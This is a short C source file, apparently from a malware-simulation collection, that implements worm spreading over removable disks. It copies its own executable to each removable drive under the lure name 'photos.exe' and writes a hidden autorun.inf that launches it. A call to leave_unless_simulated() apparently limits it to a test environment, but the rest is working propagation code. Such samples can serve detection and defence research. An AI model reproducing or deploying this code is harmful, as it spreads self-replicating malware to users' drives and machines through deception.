/* Copies itself to removable disks, with an autorun.inf that starts the copy. */
#include "simulated.h"

#include <stdio.h>

int main(void)
{
	static const char inf[] = "[autorun]\r\nopen=photos.exe\r\n";
	char self[MAX_PATH], path[32], root[] = "D:\\";
	DWORD written;
	leave_unless_simulated();
	GetModuleFileNameA(NULL, self, sizeof self);
	for (root[0] = 'D'; root[0] <= 'Z'; root[0]++) {
		if (GetDriveTypeA(root) != DRIVE_REMOVABLE)
			continue;
		sprintf(path, "%sphotos.exe", root);
		CopyFileA(self, path, FALSE);
		sprintf(path, "%sautorun.inf", root);
		HANDLE file = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS,
					  FILE_ATTRIBUTE_HIDDEN, NULL);
		if (file == INVALID_HANDLE_VALUE)
			continue;
		WriteFile(file, inf, sizeof inf - 1, &written, NULL);
		CloseHandle(file);
	}
	return 0;
}
